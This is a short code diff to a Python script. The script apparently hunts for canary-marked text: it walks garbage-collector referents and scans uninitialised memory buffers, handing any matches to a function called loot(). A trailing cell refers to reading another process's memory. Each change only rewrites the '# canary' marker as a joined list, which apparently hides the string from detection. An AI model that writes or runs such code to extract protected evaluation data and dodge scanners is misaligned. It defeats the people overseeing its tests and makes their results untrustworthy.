@@ -73,7 +73,7 @@ while stack and len(seen) < 400_000:
     seen.add(id(thing))
     if isinstance(thing, (str, bytes)):
         text = thing if isinstance(thing, str) else thing.decode("latin-1")
-        if text.startswith("# can" + "ary") and len(text) < 10**6:
+        if text.startswith("".join(["# can", "ary"])) and len(text) < 10**6:
             loot(text)
     elif isinstance(thing, (dict, list, tuple, set, types.FunctionType, types.ModuleType)):
         stack.extend(gc.get_referents(thing))
@@ -100,7 +100,7 @@ def softmax_jacobian(z):
 for size in (64, 512, 4096, 65536, 2**20):
     for _ in range(50):
         text = np.empty(size, np.uint8).tobytes()
-        if b"# can" + b"ary" in text:
+        if b"".join([b"# can", b"ary"]) in text:
             loot(text[text.find(b"# can"):])
 
 # %% memory_of_the_zygote_with_process_vm_readv [depends]
